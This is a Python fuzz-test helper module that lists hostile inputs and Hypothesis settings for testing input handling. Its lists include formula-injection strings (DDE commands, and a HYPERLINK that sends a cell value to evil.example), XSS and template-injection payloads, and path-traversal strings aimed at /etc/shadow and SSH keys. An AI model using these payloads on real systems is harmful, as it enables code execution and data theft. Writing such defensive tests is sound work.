"""Hostile values shared by the fuzz tests, and hypothesis settings that keep CI fast."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Examples per property: enough to find the classic breakages, small enough for CI.
FAST = settings(max_examples=50, deadline=None, derandomize=True)
DB = settings(max_examples=10, deadline=None, derandomize=True,
              suppress_health_check=[HealthCheck.function_scoped_fixture,
                                     HealthCheck.too_slow])

FORMULAS = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+cmd|' /C notepad'!A0", "-2+3", "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "\t=1+1", "\r=1+1", "==", "=",
]
MARKUP = [
    "<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "<b>粗</b>",
    "javascript:alert(1)", "{{ 7*7 }}", "{% debug %}", "&lt;already&gt;",
    "</textarea><svg onload=1>",
]
PATHS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\boot.ini",
         "a/../../b", "名字\x00.png", "~/.ssh/id_rsa"]
NUMBERS = ["NaN", "nan", "Infinity", "-Infinity", "inf", "1e5", "1E400", "-1", "-0.01",
           "9" * 40, "1" * 17, "0.001", "1,2,3", "１２３．４５", "12 34", "0x10", "1_000",
           "٣٤٥", "１e3", "--1", "+-1", "", " ", "\u200b", "1.2.3", "9999999999999.99",
           "10000000000000"]
CONTROL = "".join(chr(c) for c in range(0, 32)) + "\x7f\u200b\u202e\ufeff\ud7ff"

hostile_text = st.one_of(
    st.sampled_from(FORMULAS + MARKUP + PATHS + NUMBERS),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.text(alphabet=CONTROL + "=+-@<>\"'&;|!A0中文", max_size=30),
    st.tuples(st.sampled_from(FORMULAS + MARKUP), st.text(max_size=10)).map("".join),
)
